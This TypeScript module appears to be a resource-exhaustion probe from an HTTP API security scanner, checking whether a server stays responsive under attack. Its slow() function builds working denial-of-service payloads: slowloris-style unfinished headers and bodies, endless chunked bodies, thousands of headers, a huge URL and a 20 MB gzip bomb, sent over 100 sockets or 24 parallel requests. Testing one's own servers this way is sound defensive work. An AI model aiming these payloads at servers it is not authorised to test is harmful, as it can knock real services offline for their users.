import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import { gzipSync } from "node:zlib";
import { genuine } from "../ask.ts";
import type { Probe } from "../contract.ts";
import type { Run } from "../run.ts";
import { type AttackClass, type Judgement, type Scene, spoken, visitorFor } from "../scene.ts";

const SOCKETS = 100;
const PARALLEL = 24;
/** How long a healthy client waits while the server is attacked. */
const PATIENT_MS = 1_000;
const LOOKS = 4;

/** Without credentials, everything that takes time and space: others must be answered meanwhile. */
export const exhaustion: AttackClass = {
  name: "exhaustion",
  claim: "http.rate-limits",
  excuse: (op, run) => {
    if (op.publicBecause === null) return "asks for credentials before it does anything";
    return run.origin === null ? "a transport was given: there is no connection to keep open" : null;
  },
  finish: async (scenes): Promise<Probe[]> => {
    const run = (scenes[0] as Scene).run;
    const door = healthOf(run);
    const probes: Probe[] = [];
    const post = scenes.find(({ op }) => !op.safe) ?? (scenes[0] as Scene);
    for (const [what, hold] of slow(run, post)) {
      const sockets = await hold();
      const judged = await answeredMeanwhile(door);
      for (const socket of sockets) socket.destroy();
      probes.push(spoken(exhaustion, post.op, { who: `nobody, ${what}`, role: "none" }, judged));
    }
    for (const scene of scenes) {
      const many = Promise.all(Array.from({ length: PARALLEL }, () => ask(scene)));
      const judged = await answeredMeanwhile(door);
      await many;
      probes.push(spoken(exhaustion, scene.op, { who: `nobody, ${PARALLEL} at once`, role: "none" }, judged));
    }
    return probes;
  },
};

type Door = () => Promise<number>;

/** A healthy client: the cheapest public page, on a connection of its own each time. */
function healthOf(run: Run): Door {
  const op = run.operations.find(
    (one) => one.publicBecause !== null && one.safe && one.ids.length === 0 && !one.tenantScoped,
  );
  const path = op ? genuine(run, op, null, { slug: run.victim.slug, ids: {} }).path : "/";
  return async () => {
    const socket = open(run);
    return new Promise((resolve) => {
      let text = "";
      socket.on("data", (chunk) => {
        text += String(chunk);
        if (text.includes("\r\n\r\n")) resolve(Number(/^HTTP\/1\.1 (\d+)/.exec(text)?.[1] ?? 0));
      });
      socket.on("error", () => resolve(0));
      socket.on("close", () => resolve(0));
      setTimeout(() => resolve(0), PATIENT_MS).unref();
      socket.write(`GET ${path} HTTP/1.1\r\nhost: ${hostOf(run)}\r\nconnection: close\r\n\r\n`);
    }).finally(() => socket.destroy()) as Promise<number>;
  };
}

async function answeredMeanwhile(door: Door): Promise<Judgement> {
  const waits: number[] = [];
  for (let look = 0; look < LOOKS; look++) {
    const started = performance.now();
    const status = await door();
    waits.push(Math.round(performance.now() - started));
    if (status === 0 || status >= 500)
      return {
        verdict: "breached",
        detail: `a healthy client got ${status || "nothing"} within ${PATIENT_MS} ms`,
      };
  }
  return { verdict: "held", detail: `a healthy client was answered within ${Math.max(...waits)} ms` };
}

/** Ways to keep a server busy with little; each answers the connections that it holds open. */
function slow(run: Run, { op, slug }: Scene): [string, () => Promise<Socket[]>][] {
  const { path } = genuine(run, op, null, { slug, ids: {} });
  const head = `${op.method} ${path} HTTP/1.1\r\nhost: ${hostOf(run)}\r\n`;
  const json = "content-type: application/json\r\n";
  const bomb = gzipSync(Buffer.alloc(20_000_000, 0x20));
  const each =
    (text: string | Buffer, count = SOCKETS) =>
    async () => {
      const sockets = Array.from({ length: count }, () => open(run));
      await Promise.all(sockets.map((socket) => written(socket, text)));
      return sockets;
    };
  return [
    [`${SOCKETS} connections that say nothing`, each("")],
    [`${SOCKETS} requests whose headers never end`, each(`${head}x-slow: `)],
    [`${SOCKETS} bodies that never come`, each(`${head}${json}content-length: 100000\r\n\r\n{"a":`)],
    [
      `${SOCKETS} bodies in pieces that never end`,
      each(`${head}${json}transfer-encoding: chunked\r\n\r\n1\r\n{\r\n`),
    ],
    [
      "thousands of headers",
      each(`${head}${Array.from({ length: 5_000 }, (_, i) => `x-${i}: 1\r\n`).join("")}\r\n`, 20),
    ],
    ["an endless address", each(`GET /${"a".repeat(500_000)} HTTP/1.1\r\nhost: x\r\n\r\n`, 20)],
    [
      "compressed bodies of 20 MB",
      each(
        Buffer.concat([
          Buffer.from(`${head}${json}content-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`),
          bomb,
        ]),
        20,
      ),
    ],
  ];
}

/** One of many at the same moment; what it is answered says nothing, as long as others are. */
async function ask({ run, op, slug, body }: Scene): Promise<void> {
  const filling = { slug, ids: Object.fromEntries(op.ids.map((name) => [name, "none"])), body };
  const wrong = visitorFor(run) && body;
  await run.client.send(genuine(run, op, null, { ...filling, body: wrong }), { once: true });
}

function open(run: Run): Socket {
  const { hostname, port, protocol } = run.origin as URL;
  const host = hostname.replace(/^\[|\]$/g, "");
  const tls = protocol === "https:";
  const at = { host, port: Number(port || (tls ? 443 : 80)) };
  const socket = tls ? connectTls({ ...at, servername: host }) : connect(at);
  socket.on("error", () => {});
  return socket;
}

function written(socket: Socket, text: string | Buffer): Promise<void> {
  return new Promise((resolve) => {
    socket.once("close", () => resolve());
    setTimeout(resolve, PATIENT_MS).unref();
    if (text.length === 0) socket.once("connect", () => resolve());
    else socket.write(text, () => resolve());
  });
}

function hostOf(run: Run): string {
  return run.origin?.host ?? "localhost";
}
